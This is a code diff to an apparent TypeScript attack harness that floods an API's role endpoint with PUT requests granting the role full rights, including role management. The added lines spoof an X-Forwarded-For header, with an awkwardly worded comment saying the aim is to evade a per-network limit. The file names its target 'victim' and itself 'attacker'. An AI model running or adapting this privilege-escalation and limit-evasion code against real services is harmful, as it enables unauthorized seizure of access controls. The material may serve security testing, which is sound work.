@@ -32,6 +32,8 @@ interface Habit {
 
 const READ_PAUSE_MS = 2;
 const WRITE_PAUSE_MS = 150;
+/** Writes have bodies, and those of one network share a part of the room for bodies: the attacker has another. */
+const WRITER_ADDRESS = "192.0.2.1";
 const SUCCESS = "HTTP/1.1 200";
 const ALL_RIGHTS = {
   roleManagement: true,
@@ -64,8 +66,8 @@ function start({ port, token, roleId }: VictimOrder): void {
       pauseMs: WRITE_PAUSE_MS,
       makeRequest(): string {
         const body = JSON.stringify({ name: `victim ${names++}`, selfRights: ALL_RIGHTS });
-        return `PUT /v1/role/${roleId} HTTP/1.1\r\n${head}Content-Type: application/json\r\n` +
-          `Content-Length: ${body.length}\r\n\r\n${body}`;
+        return `PUT /v1/role/${roleId} HTTP/1.1\r\n${head}X-Forwarded-For: ${WRITER_ADDRESS}\r\n` +
+          `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
       },
     },
   );
